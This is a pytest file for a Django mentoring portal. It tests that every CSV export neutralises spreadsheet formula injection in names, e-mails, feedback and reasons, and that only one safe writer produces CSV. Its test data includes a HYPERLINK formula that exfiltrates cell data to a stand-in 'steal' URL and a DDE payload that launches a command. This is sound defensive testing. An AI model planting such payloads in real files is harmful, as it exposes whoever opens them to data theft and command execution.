"""Every CSV file the portal offers is safe to open in a spreadsheet: whatever people typed
(names, e-mail addresses, feedback, reasons) never becomes a live formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from mentoring.feedback.models import Pulse
from mentoring.models import (
    Booking,
    BookingsByMentorship,
    Feedback,
    Mentorship,
    RoundProposal,
)
from mentoring.programme.views import BUILDERS
from tests.factories import (
    BookingFactory,
    MatchingRoundFactory,
    MenteeProfileFactory,
    MentorProfileFactory,
    MentorshipFactory,
    UserFactory,
)

ROOT = Path(__file__).resolve().parents[2]
# What people might type, each a formula (or a way into one) if written as it is.
HOSTILE = [
    '=HYPERLINK("https://example.com/steal?d="&A1,"Open")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def is_formula(cell: str) -> bool:
    if NUMBER.fullmatch(cell):
        return False  # a number we wrote as a number, such as a count
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def hostile_user(n: int, **fields):
    return UserFactory(
        first_name=HOSTILE[n % len(HOSTILE)],
        last_name=HOSTILE[(n + 1) % len(HOSTILE)],
        email=f"-{n}+1@nhs.net",  # a valid address that a spreadsheet would add up
        **fields,
    )


@pytest.fixture
def programme(db):
    """People with hostile names, in every kind of record an export writes."""
    mentor = MentorProfileFactory(user=hostile_user(0), capacity=1)
    mentee = MenteeProfileFactory(user=hostile_user(2))
    active = MentorshipFactory(mentee=mentee, mentor=mentor, status=Mentorship.Status.ACTIVE)
    Feedback.objects.create(mentorship=active, role="mentee", rating=4, comment=HOSTILE[0])
    # A halfway pulse, for the pulse's figures by band and region.
    Pulse.objects.create(
        mentorship=active, role="mentee", how_it_is_going=4, recommend=9, given_at=timezone.now()
    )
    booking = BookingFactory(mentorship=active)
    matching_round = MatchingRoundFactory()
    RoundProposal.objects.create(
        round=matching_round, mentee=mentee, mentor=mentor, score=7, reasons=HOSTILE[3:5]
    )
    RoundProposal.objects.create(
        round=matching_round,
        mentee=MenteeProfileFactory(user=hostile_user(4)),
        unmatched_reason=HOSTILE[5],
    )
    return {"mentorship": active, "booking": booking, "round": matching_round}


@pytest.fixture
def coordinator(client, db):
    client.force_login(UserFactory(is_staff=True, groups=["Coordinators"]))
    return client


def admin_export(model, action: str, pk_of, *, reason: str = ""):
    """`reason`: the export has private fields, so it asks why first (portal/private_access.py)."""

    def fetch(client, data):
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        asked = {"private_access_reason": reason} if reason else {}
        return client.post(url, {"action": action, "_selected_action": [pk_of(data)], **asked})

    return fetch


def page_export(name: str, args_of):
    def fetch(client, data):
        return client.get(reverse(name, args=args_of(data)))

    return fetch


PROGRAMME_FIGURES = [
    *("requests", "first-answer", "acceptance", "active", "sessions", "feedback"),
    *("session-ratings", "pulse", "pulse-scores", "pulse-by-band", "pulse-by-region"),
    *("confidence", "moves", "time-to-match", "first-meeting"),
]
# Every CSV export: (what it is, how to fetch it, whether it carries what people typed).
EXPORTS = [
    (
        "admin mentorships",
        admin_export(Mentorship, "export_mentorships", lambda d: d["mentorship"].pk),
        True,
    ),
    (
        "admin feedback",
        admin_export(
            Mentorship,
            "export_feedback",
            lambda d: d["mentorship"].pk,
            reason="Quarterly report on the programme's feedback",
        ),
        True,
    ),
    (
        "admin bookings",
        admin_export(Booking, "export_bookings", lambda d: d["booking"].pk),
        True,
    ),
    (
        "admin bookings by mentorship",
        admin_export(BookingsByMentorship, "export_counts", lambda d: d["mentorship"].pk),
        True,
    ),
    (
        "round proposal",
        page_export("mentoring:round-proposal-csv", lambda d: [d["round"].pk]),
        True,
    ),
    (
        "programme mentors",
        page_export("mentoring:programme-csv", lambda d: ["mentors"]),
        True,
    ),
    *[
        (f"programme {f}", page_export("mentoring:programme-csv", lambda d, f=f: [f]), False)
        for f in PROGRAMME_FIGURES
    ],
    (
        "pairs at risk",
        lambda client, d: client.get(reverse("mentoring:pairs-at-risk-csv"), {"state": "all"}),
        True,
    ),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "fetch", "carries_typed_text"), EXPORTS, ids=[e[0] for e in EXPORTS]
)
def test_no_cell_of_any_export_is_a_formula(
    coordinator, programme, name, fetch, carries_typed_text
):
    response = fetch(coordinator, programme)

    assert response.status_code == 200, name
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, f"{name} exported no rows"
    assert [cell for cell in cells if is_formula(cell)] == []
    if carries_typed_text:
        # What was typed is there, kept as text behind an apostrophe.
        assert [cell for cell in cells if cell.startswith("'") and is_formula(cell[1:])]


def test_every_export_is_in_the_test_above():
    """A new CSV download must be added to EXPORTS, so that it is checked too."""
    admin_actions = {
        (model_admin.model, name)
        for model_admin in admin.site._registry.values()
        for name in model_admin.actions or []
        if name.startswith("export")
        or "export" in getattr(getattr(model_admin, name, None), "allowed_permissions", ())
    }
    covered_actions = {
        (Mentorship, "export_mentorships"),
        (Mentorship, "export_feedback"),
        (Booking, "export_bookings"),
        (BookingsByMentorship, "export_counts"),
    }
    assert admin_actions == covered_actions

    def csv_routes(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
                yield from csv_routes(pattern.url_patterns, namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
                yield f"{prefix}{pattern.name}"

    assert set(csv_routes(get_resolver().url_patterns)) == {
        "mentoring:round-proposal-csv",
        "mentoring:programme-csv",
        "mentoring:pairs-at-risk-csv",  # "pairs at risk" above
    }
    figures = {name.removeprefix("programme ") for name, *_ in EXPORTS if "programme " in name}
    assert figures == set(BUILDERS)


# Writing CSV anywhere but portal/csv_export.py: the csv module's writers by any route (a call,
# a reference kept for later, an import by name, the module renamed so the name is hidden) and
# the CSV content type. Reading CSV (the capability framework importer's csv.reader) is allowed:
# nothing read from a file reaches a spreadsheet without going through the safe writer.
CSV_WRITING = re.compile(
    r"csv\.(writer|DictWriter)\b"
    r"|^\s*from\s+csv\s+import\b.*(\bwriter\b|\bDictWriter\b|\*)"
    r"|^\s*import\s+csv\s+as\b"
    r"|text/csv"
)


@pytest.mark.parametrize(
    "line",
    [
        "    out = csv.writer(response)",
        "make = csv.DictWriter",
        "from csv import writer",
        "from csv import reader, DictWriter",
        "from csv import *",
        "import csv as spreadsheet",
        'response = HttpResponse(content_type="text/csv")',
    ],
)
def test_the_writer_rule_catches_csv_written_any_way(line):
    assert CSV_WRITING.search(line)


@pytest.mark.parametrize(
    "line",
    [
        "import csv",
        "    reader = csv.reader(io.StringIO(text), strict=True)",
        "    except csv.Error as error:",
        "from csv import reader",
    ],
)
def test_the_writer_rule_lets_csv_be_read(line):
    assert not CSV_WRITING.search(line)


def test_every_csv_is_written_by_the_one_safe_writer():
    """Only portal/csv_export.py writes CSV: anywhere else would skip the formula guard."""
    writer = ROOT / "portal" / "csv_export.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for package in ["portal", "stories", "mentoring"]
        for path in sorted((ROOT / package).rglob("*.py"))
        if path != writer
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if CSV_WRITING.search(line)
    ]
    assert offenders == []
